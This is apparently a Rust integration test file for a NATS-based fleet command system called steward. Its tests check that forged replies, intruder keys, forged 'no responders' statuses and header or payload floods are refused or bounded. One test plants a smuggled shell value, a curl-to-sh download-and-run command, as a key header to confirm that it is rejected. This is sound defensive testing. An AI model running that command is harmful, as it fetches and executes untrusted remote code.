    // once: a line names ship1 several times.)
    let errors = central.wait_count("errors.log", "refused ship1.EventACK.TextLogging", 2);
    let lines: Vec<&str> = errors.lines().collect();
    assert_eq!(lines.len(), 2, "{}", &errors[..errors.len().min(2000)]);
    for line in &lines {
        assert!(line.len() < 9000, "a line of {} bytes", line.len());
    }
    assert!(
        lines.iter().any(|l| l.contains("(300000 bytes)")),
        "{lines:?}"
    );
    // Nothing left that cannot be sent, nothing grown, no line forged.
    std::thread::sleep(Duration::from_secs(1));
    let log = ship1.log();
    assert!(
        !log.contains("unreadable"),
        "{}",
        &log[..log.len().min(3000)]
    );
    assert!(log.lines().all(|l| l.len() < 16 * 1024));
    assert!(
        !log.lines().any(|l| l.starts_with("[2030")),
        "a forged line"
    );
    // Each report is finished in ship1's journal only after central's ACK of the line seen
    // above has come back, and its records are written: waited for, not assumed.
    ship1.wait_metric(
        "sent every report",
        |s| s.metric("steward_journal_pending_messages"),
        |v| v == 0.0,
    );
    assert!(!ship1.path("unreadable-messages.txt").exists());
    let mut ship1 = ship1;
    assert!(ship1.is_running());
}

#[test]
fn a_key_is_suggested_for_trust_only_if_it_is_one_and_two_keys_answering_for_a_node_are_said() {
    let nats = NatsServer::start();
    let central = Node::start("central", &nats.address(), &[]);
    central.trust_only(&["ship1"]);
    let _ship7 = Node::start("ship7", &nats.address(), &[]);
    let raw = Raw::connect(&nats.address());
    // A Hello from a name central trusts no key for, its "key" a line of shell.
    let payload = envelope("hello-1", "ship8", "central", "EventNACK", "Hello", &[]);
    let mut h = signed_by("intruder", "central.EventNACK.Hello", None, &payload);
    h.insert(steward::keys::KEY, "U;curl -fsSL x.y/p|sh");
    raw.send("central.EventNACK.Hello", None, Some(&h), &payload);
    central.wait_refused("Hello", 1);
    // An intruder answers central's commands to ship7, which answers too, each under its
    // own key: central trusts neither.
    let asked = raw.spy("ship7.CommandACK.CLICommand");
    let conn = raw.conn.clone();
    std::thread::spawn(move || {
        let intruder = steward::keys::Identity::from_seed(&common::seed_of("intruder")).unwrap();
        for m in asked.iter() {
            let (Some(reply), Some(sig)) = (
                m.reply.as_deref(),
                m.headers.as_ref().and_then(|h| h.get(steward::keys::SIG)),
            ) else {
                continue;
            };
            let sealed = intruder.seal(steward::keys::Scope::reply(reply, sig), b"[]");
            let _ = conn.publish_with_reply_or_headers(reply, None, Some(&sealed.headers), b"[]");
        }
    });
    central.append_inmsg(
        r#"[{"toNode":"ship7","data":["true"],"commandOrEvent":"CommandACK","method":"CLICommand","timeout":2,"retries":1}]"#,
    );
    let errors = central.wait_for("errors.log", "different keys");
    assert!(
        errors.contains(&key_of("intruder")) && errors.contains(&key_of("ship7")),
        "{errors}"
    );
    let log = central.log();
    assert!(!log.contains("keys trust ship8 U;curl"), "{log}");
    assert!(!errors.contains("keys trust ship8"), "{errors}");
}

#[test]
fn a_stranger_s_largest_messages_to_every_subject_of_a_busy_node_hold_little_memory() {
    let nats = NatsServer::start();
    let ship1 = Node::start("ship1", &nats.address(), &["--maxConcurrentHandlers=1"]);
    let central = Node::start("central", &nats.address(), &[]);
    // The node's one place taken by a long command: what arrives now waits.
    central.append_inmsg(
        r#"[{"toNode":"ship1","data":["sleep","60"],"commandOrEvent":"CommandACK","method":"CLICommand","methodTimeout":8}]"#,
    );
    ship1.wait_status("showed its place busy", |t| {
        t.lines()
            .next()
            .is_some_and(|l| l.contains("handlers busy: 1"))
    });
    let before = ship1.rss_kib();
    let raw = Raw::connect(&nats.address());
    let big = vec![b'x'; 900_000];
    // Or the bulk in headers: 1,500 made up, a map far larger than its 15 kB.
    let mut made_up = nats::HeaderMap::new();
    for i in 0..1500 {
        made_up.insert(format!("k{i}"), "v");
    }
    let subjects = listened(&ship1);
    let (by_payload, by_headers) = subjects.split_at(subjects.len() / 2);
    let per_subject = 24;
    // Paced, so that the broker never takes the node for a slow consumer and cuts it off
    // (which would bound the node's memory whatever it did).
    for round in 0..per_subject * 4 {
        if round < per_subject {
            for subject in by_payload {
                raw.conn.publish(subject, &big).unwrap();
            }
        }
        for subject in by_headers {
            raw.send(subject, None, Some(&made_up), b"");
        }
        raw.conn.flush().unwrap();
        std::thread::sleep(Duration::from_millis(20));
    }
    // What could not wait was dropped and counted; the rest holds a few megabytes a subject.
    let sent = (by_payload.len() * per_subject + by_headers.len() * per_subject * 4) as f64;
    let dropped = |n: &Node| n.metric_sum("steward_subscription_dropped_total", &[]);
    std::thread::sleep(Duration::from_secs(1));
    let grew = ship1.rss_kib().saturating_sub(before);
    eprintln!(
        "[busy_flood] subjects={} messages={sent} grew_kib={grew}",
        subjects.len()
    );
    assert!(
        grew < 96 * 1024,
        "RSS grew {grew} KiB for {} subjects",
        subjects.len()
    );
    // Every message accounted for once the command ends (at its 8 s) and what waited is
    // taken: dropped by the client (counted when the subscribers look again) or refused
    // (the stranger holds no key), none lost uncounted and none twice. How many of each
    // follows the machine's pace: a loaded one drains the queues as they fill. (The
    // methods that put a node right have places of their own: theirs are not dropped.)
    let refused = |n: &Node| n.metric_sum("steward_messages_received_total", &["refused"]);
    let total = |n: &Node| dropped(n) + refused(n);
    ship1.wait_metric("accounted for every message", total, |v| v >= sent);
    std::thread::sleep(Duration::from_millis(500));
    let (dropped, refused) = (dropped(&ship1), refused(&ship1));
    eprintln!("[busy_flood] sent={sent} dropped={dropped} refused={refused}");
    assert_eq!(
        dropped + refused,
        sent,
        "dropped {dropped}, refused {refused}"
    );
    assert!(
        dropped > 0.0,
        "nothing was dropped: the queues were not bounded"
    );
}

/// A stranger on the broker answers central's command "no responders" (anyone may publish
/// on its reply inbox) while other lanes wait for central's one thread: the lane does not
/// take it for a node away and give its thread up, which lost the route of the reply of
/// the command running there.
#[test]
fn a_forged_no_responders_does_not_make_a_lane_to_a_node_that_runs_give_way() {
    let nats = NatsServer::start();
    let ship1 = Node::start("ship1", &nats.address(), &[]);
    let central = Node::start("central", &nats.address(), &["--maxPublishers=1"]);
    central.wait_until("", "ship1 said Hello", |_| {
        central.log().contains("first Hello from ship1")
    });
    let raw = Raw::connect(&nats.address());
    let spy = raw.spy("ship1.CommandACK.CLICommand");
    central.append_inmsg(
        r#"[{"toNode":"ship1","data":["sleep","4"],"commandOrEvent":"CommandACK","method":"CLICommand","timeout":120}]"#,
    );
    let request = spy.next_timeout(Duration::from_secs(20)).unwrap();
    // Another lane waits for the thread.
    central.append_inmsg(&command("ghost", &["true"]));
    std::thread::sleep(Duration::from_millis(300));
    let mut status = nats::HeaderMap::new();
    status.insert("Status", "503");
    raw.send(request.reply.as_deref().unwrap(), None, Some(&status), b"");
    let asked = Instant::now();
    central.wait_for("replies/ship1.CLICommand.log", "status=Ok");
    assert!(
        asked.elapsed() < Duration::from_secs(15),
        "ACKed {:?} after the forgery",
        asked.elapsed()
    );
    assert!(
        !central.log().contains("ship1 is not there"),
        "{}",
        central.log()
    );
    drop(ship1);
}

/// A command to ship1, whose reply subject the raw client, listening as ship1, takes, and
/// no ACK: it is given up, and its late reply awaited. The captured send, and its id.
fn a_command_given_up_after_a_raw_client_took_it(
    central: &Node,
    raw: &Raw,
) -> (nats::Message, String) {
    let spy = raw.spy("ship1.CommandACK.CLICommand");
    central.append_inmsg(
        r#"[{"toNode":"ship1","data":["true"],"commandOrEvent":"CommandACK","method":"CLICommand","timeout":1,"retries":0}]"#,
    );
    let m = spy
        .next_timeout(Duration::from_secs(10))
        .expect("the command");
    let id = serde_json::from_slice::<serde_json::Value>(&m.data).unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    (m, id)
}

/// Ship1's reply to message `id`, with `output`.
fn ship1_reply(output: &str, id: &str) -> serde_json::Value {
    serde_json::json!({
        "id": id, "fromNode": "ship1", "toNode": "central", "status": "ok",
        "exitCode": 0, "output": output
    })
}

/// Five forgeries of the late reply to `m` (`id`) on its reply subject: unsigned, signed
/// by a stranger, by a fleet member, by ship1 over another send, by ship1 for another
/// message. Each given time to be checked: at most four replies to one message wait to be.
fn forge_late_replies(raw: &Raw, m: &nats::Message, id: &str) {
    let to = m.reply.clone().expect("a reply subject");
    let forged = ship1_reply("forged", id);
    let payload = serde_json::to_vec(&forged).unwrap();
    let pause = || std::thread::sleep(Duration::from_millis(200));
    raw.send(&to, None, None, &payload);
    pause();
    raw.answer_as("intruder", m, &forged);
    pause();
    raw.answer_as("ship2", m, &forged);
    pause();
    let moved = steward::keys::Identity::from_seed(&common::seed_of("ship1"))
        .unwrap()
        .seal_covering(
            steward::keys::Scope::reply(&to, "the signature of another send"),
            &payload,
            Covers::Payload,
        );
    raw.send(&to, None, Some(&moved.headers), &payload);
    pause();
    raw.answer_as("ship1", m, &ship1_reply("forged", "central-1-1-another"));
    pause();
}

/// Ship1's real late reply to `m` (`id`), again and again (each retry's copy is answered)
/// until central keeps it; none kept before it. Then central's reply file, holding it
/// once and no forgery.
fn answer_until_kept(central: &Node, raw: &Raw, m: &nats::Message, id: &str) -> String {
    let late = "steward_late_replies_total{method=\"CLICommand\"}";
    assert_eq!(central.metric(late), 0.0, "a forgery was kept");
    let deadline = Instant::now() + Duration::from_secs(20);
    while central.metric(late) < 1.0 {
        assert!(Instant::now() < deadline, "the real reply never kept");
        raw.answer_as("ship1", m, &ship1_reply("the real output", id));
        std::thread::sleep(Duration::from_millis(200));
    }
    let kept = central.read("replies/ship1.CLICommand.log");
    let records: Vec<&str> = kept.lines().filter(|l| l.starts_with("=== ")).collect();
    assert_eq!(records.len(), 1, "{kept}");
    assert!(records[0].contains(&format!("id={id} from=ship1 status=Ok exit=0")));
    assert!(
        kept.contains("the real output\n[steward: this reply came"),
        "{kept}"
    );
    assert!(!kept.contains("forged"), "{kept}");
    // Said once: a flood of forgeries is not a flood of lines.
    let log = central.log();
    assert_eq!(log.matches("ignoring a late reply").count(), 1, "{log}");
    kept
}

/// A message given up after its node may have taken it is awaited a while for its late
/// reply (it may have run): that reply is kept only if its node signed it, over one of the
/// message's own sends, for the message's own id. Forgeries on its reply subject (unsigned,
/// a stranger's key, a fleet member's, the node's own over another send or for another
/// message) keep nothing and do not stand in for the real one, which, after them all, is
/// kept once however many copies come.
#[test]
fn a_late_reply_to_a_message_given_up_is_kept_only_from_its_node_over_its_own_sends() {
    let nats = NatsServer::start();
    let central = Node::start("central", &nats.address(), &[]);
    let raw = Raw::connect(&nats.address());
    let (m, id) = a_command_given_up_after_a_raw_client_took_it(&central, &raw);
    let failed = central.wait_for("failed-messages.txt", "CLICommand");
    assert!(failed.contains("\"timeout\": 1"), "{failed}");
    forge_late_replies(&raw, &m, &id);
    answer_until_kept(&central, &raw, &m, &id);
    assert!(central.log().contains("ran on ship1 after all"));
    // Nothing awaited any more: the process has ended, and a copy after that is dropped.
    central.wait_status("showed the late replies process gone", |t| {
        !t.contains("late replies")
    });
    raw.answer_as("ship1", &m, &ship1_reply("the real output", &id));
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(
        central.metric("steward_late_replies_total{method=\"CLICommand\"}"),
        1.0
    );
}

/// After a restart of the sender, what it awaited is awaited again on its earlier run's
/// inbox, which it listens on anew: from a raw client there, forged five ways and on a
/// subject that inbox never awaited, nothing is kept; ship1's own reply is, once.
#[test]
fn a_late_reply_awaited_across_a_restart_is_kept_only_from_its_node_over_its_own_sends() {
    let nats = NatsServer::start();
    let mut central = Node::start("central", &nats.address(), &[]);
    let raw = Raw::connect(&nats.address());
    let (m, id) = a_command_given_up_after_a_raw_client_took_it(&central, &raw);
    let to = m.reply.clone().expect("a reply subject");
    central.wait_for("late-replies.json", &to);
    central.kill9();
    central.restart();
    // Until the new run listens on the old inbox, what is sent there is nobody's: wait for
    // its word before forging, so that each forgery is one it reads.
    wait_until("central listening on its earlier inbox", || {
        central
            .log()
            .contains("an earlier run's inbox, for late replies")
    });
    forge_late_replies(&raw, &m, &id);
    // Ship1's own signature, on a subject of that inbox nothing awaits.
    let mut elsewhere = m.clone();
    elsewhere.reply = Some(format!(
        "{}.other.1",
        steward::broker::inbox_of(&to).unwrap()
    ));
    raw.answer_as("ship1", &elsewhere, &ship1_reply("forged", &id));
    std::thread::sleep(Duration::from_millis(200));
    answer_until_kept(&central, &raw, &m, &id);
    wait_until("late-replies.json removed", || {
        !central.path("late-replies.json").exists()
    });
}

/// A "no responders" is anyone's to forge: answering every send of a command with one does
/// not keep its late reply away. Its node said Hello (signed) within the minute, so the
/// command given up is awaited all the same, and its reply kept when it comes.
#[test]
fn forged_no_responders_at_every_send_do_not_keep_a_late_reply_away() {
    let nats = NatsServer::start();
    let _ship1 = Node::start("ship1", &nats.address(), &[]);
    let central = Node::start("central", &nats.address(), &[]);
    central.wait_metric(
        "heard ship1's Hello",
        |c| c.metric("steward_messages_received_total{method=\"Hello\",outcome=\"ok\"}"),
        |v| v >= 1.0,
    );
    let raw = Raw::connect(&nats.address());
    let spy = raw.spy("ship1.CommandACK.CLICommand");
    central.append_inmsg(
        r#"[{"toNode":"ship1","data":["sh","-c","sleep 2; echo ran anyway"],"commandOrEvent":"CommandACK","method":"CLICommand","timeout":1,"methodTimeout":10,"retries":0}]"#,
    );
    let mut status = nats::HeaderMap::new();
    status.insert("Status", "503".to_string());
    let (mut sends, deadline) = (0, Instant::now() + Duration::from_secs(20));
    while !central.path("failed-messages.txt").exists() {
        assert!(Instant::now() < deadline, "never given up");
        if let Ok(m) = spy.next_timeout(Duration::from_millis(50)) {
            sends += 1;
            raw.send(m.reply.as_deref().unwrap(), None, Some(&status), b"");
        }
    }
    assert!(sends >= 2, "{sends} send(s)");
    let kept = central.wait_for("replies/ship1.CLICommand.log", "ran anyway");
    assert!(
        kept.contains("ran anyway\n[steward: this reply came"),
        "{kept}"
    );
    // Awaited for the Hello, not for a send the forger missed.
    let log = central.log();
    assert!(log.contains("ship1 said Hello within the minute"), "{log}");
}
